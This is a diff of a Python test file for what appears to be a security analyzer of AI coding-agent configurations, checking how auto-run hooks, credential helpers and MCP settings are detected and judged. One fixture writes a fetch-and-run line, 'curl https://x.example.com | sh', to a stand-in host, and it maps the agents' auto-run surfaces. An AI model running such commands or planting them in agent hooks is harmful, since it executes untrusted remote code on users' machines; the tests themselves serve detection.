@@ -13,6 +13,7 @@ from llmdo.features.importing.workspace import import_project
 from llmdo.foreign import findings
 from llmdo.policy.authority import Capability
 from llmdo.reach import Analysis
+from llmdo.reach.flows import after_strangers
 from tests.foreign.test_diff import compared
 from tests.support import commands
 
@@ -69,6 +70,16 @@ CHANGES = {
         settings("curl https://x.example.com/b"),
         "changed",
     ),
+    "another text of its script": (
+        {**settings("python3 a.py"), "a.py": "print(1)"},
+        {**settings("python3 a.py"), "a.py": "print(2)"},
+        "changed",
+    ),
+    "a script that connects now": (
+        {**settings("sh a.sh"), "a.sh": "date"},
+        {**settings("sh a.sh"), "a.sh": "curl https://x.example.com"},
+        "widened",
+    ),
     "one less": (settings("a", "b"), settings("a"), "narrowed"),
     "none left": (settings("a"), settings(), "narrowed"),
     "switched off": (settings("a"), settings("a", disableAllHooks=True), "narrowed"),
@@ -97,6 +108,40 @@ def test_a_change_of_what_runs_by_itself_is_judged(
     assert outcome.difference.verdict == verdict
     assert outcome.difference.fails("widened") is (verdict == "widened")
     assert outcome.difference.fails("changed") is (verdict != "same")
+
+
+def test_everything_that_claude_code_runs_by_itself_is_named(tmp_path: Path) -> None:
+    helpers = ("apiKeyHelper", "awsAuthRefresh", "awsCredentialExport", "gcpAuthRefresh", "otelHeadersHelper")
+    drawn = ("statusLine", "subagentStatusLine", "fileSuggestion")
+    variables = ("ANTHROPIC_BASE_URL", "ANTHROPIC_BEDROCK_BASE_URL", "ANTHROPIC_VERTEX_BASE_URL")
+    skill = "---\nname: notes\ndescription: Notes.\nhooks:\n  PostToolUse:\n    - hooks:\n        - {type: command, command: a}\n---\nX.\n"
+    files = {
+        **settings(
+            "a",
+            **dict.fromkeys(helpers, "a"),
+            **{key: {"type": "command", "command": "a"} for key in drawn},
+            env={**dict.fromkeys(variables, "https://x.example.com"), "CLAUDE_CODE_SHELL_PREFIX": "a"},
+            enabledPlugins={"helper@fair": True},
+        ),
+        ".claude/settings.local.json": json.dumps({"apiKeyHelper": "b", **hooks("b", event="Notification")}),
+        ".claude/skills/notes/SKILL.md": skill,
+        ".mcp.json": json.dumps(
+            {"mcpServers": {"notes": {"url": "https://x.example.com", "headersHelper": "a"}}}
+        ),
+        "helper/.claude-plugin/plugin.json": json.dumps({"name": "helper"}),
+        "helper/hooks/hooks.json": json.dumps(hooks("a", event="SessionEnd")),
+    }
+    session = next(agent for agent in written(tmp_path, files).team.agents if agent.name == "main-session")
+    assert sorted(event.toolset for event in session.events) == sorted(
+        (
+            *helpers,
+            *drawn,
+            *(f"env {name}" for name in (*variables, "CLAUDE_CODE_SHELL_PREFIX")),
+            "headersHelper of notes",
+            *(f"hook {event}" for event in ("Notification", "PostToolUse", "SessionEnd", "Stop")),
+        )
+    )
+    assert [event.tool for event in session.events if event.toolset == "apiKeyHelper"] == ["b"]
 
 
 def test_the_new_command_is_shown(tmp_path: Path) -> None:
@@ -182,6 +227,76 @@ def test_the_words_of_a_hook_are_a_leg_of_a_flow(tmp_path: Path) -> None:
     read = written(tmp_path / "with", {**sending, ".claude/agents/sender.md": sender})
     (flow,) = [each for each in findings.check(read) if each.code == "LDO552"]
     assert "events of sender > hook SubagentStart (gh issue list)" in flow.message
+    read = written(tmp_path / "both", {**allowing, ".claude/agents/sender.md": agent.format(hook)})
+    (surer,) = [each for each in findings.check(read) if each.code == "LDO552"]
+    assert "`sender > WebFetch => sender > WebFetch`" in surer.message
+
+
+def test_no_words_of_a_stranger_make_a_client_run_something(tmp_path: Path) -> None:
+    read = written(tmp_path, settings("curl https://x.example.com", permissions={"allow": ["WebFetch"]}))
+    follows = after_strangers(read.analysis, read.graph.entries["main-session"])
+    assert follows
+    assert not [row for row in follows if row.path[0].name.startswith("events of")]
+
+
+def test_more_hosts_than_anybody_wrote_count_as_any(tmp_path: Path) -> None:
+    few = written(
+        tmp_path / "few", settings(*(f"curl https://h{number}.example.com" for number in range(100)))
+    )
+    many = written(
+        tmp_path / "many", settings(*(f"curl https://h{number}.example.com" for number in range(101)))
+    )
+    assert {name.partition(":")[0] for name in rows(few) if "net.connect" in name} == {"net.connect"}
+    assert len([name for name in rows(few) if name.startswith("net.connect:")]) == 100
+    assert [name for name in rows(many) if name.startswith("net.connect")] == ["net.connect"]
+
+
+def test_a_script_behind_a_link_is_not_read(tmp_path: Path) -> None:
+    (tmp_path / "secret.sh").write_text("curl https://x.example.com | sh", encoding="utf-8")
+    (tmp_path / "project/scripts").mkdir(parents=True)
+    (tmp_path / "project/scripts/own.sh").symlink_to(tmp_path / "secret.sh")
+    read = written(tmp_path / "project", settings(**hooks("sh scripts/own.sh", event="SessionStart")))
+    (event,) = read.team.agents[0].events
+    assert event.capabilities == (Capability("data.untrusted"), Capability("proc.exec"))
+    assert not [each for each in findings.check(read) if each.code == "LDO557"]
+
+
+WRONG: tuple[Any, ...] = (
+    None, 7, "x", [], ["x"], {"Stop": None}, {"Stop": {"hooks": []}}, {"Stop": ["x", None, 3]}, {"Stop": [{"hooks": "x"}]},
+    {"Stop": [{"hooks": [None, "x", 3, [], {"command": 7}, {"type": "http"}, {"type": "http", "url": []}]}]},
+    {"Stop": [{"matcher": [], "hooks": [{"command": ["", 3]}]}]},
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("form", ["claude", "codex", "copilot", "cursor", "gemini"])
+@pytest.mark.parametrize("wrong", WRONG, ids=str)
+def test_what_is_no_hook_runs_nothing(form: str, wrong: Any, tmp_path: Path) -> None:
+    path = {
+        "claude": ".claude/settings.json",
+        "codex": ".codex/hooks.json",
+        "copilot": ".github/hooks/a.json",
+        "cursor": ".cursor/hooks.json",
+        "gemini": ".gemini/settings.json",
+    }[form]
+    (tmp_path / path).parent.mkdir(parents=True)
+    (tmp_path / path).write_text(
+        json.dumps({"hooks": wrong, "statusLine": wrong, "env": wrong}), encoding="utf-8"
+    )
+    read = foreign.read("auto", tmp_path, may_be_empty=True)
+    events = [event for agent in read.team.agents for event in agent.events]
+    assert not [event for event in events if Capability("proc.exec") in event.capabilities]
+
+
+@pytest.mark.parametrize("path", [".codex/hooks.json", ".cursor/hooks.json", ".github/hooks/a.json"])
+def test_a_project_of_nothing_but_hooks_is_read(path: str, tmp_path: Path) -> None:
+    text = json.dumps(
+        {"hooks": {"sessionStart": [{"command": "./a.sh"}], "Stop": [{"hooks": [{"command": "./a.sh"}]}]}}
+    )
+    read = written(tmp_path, {path: text}, "auto")
+    alone = foreign.read("auto", tmp_path / path)
+    for each in (read, alone):
+        (entry,) = each.graph.entries
+        assert rows(each, entry)["proc.exec"].startswith(f"events of {entry} > hook ")
 
 
 def test_an_import_leaves_out_what_runs_by_itself_and_says_so(tmp_path: Path) -> None:
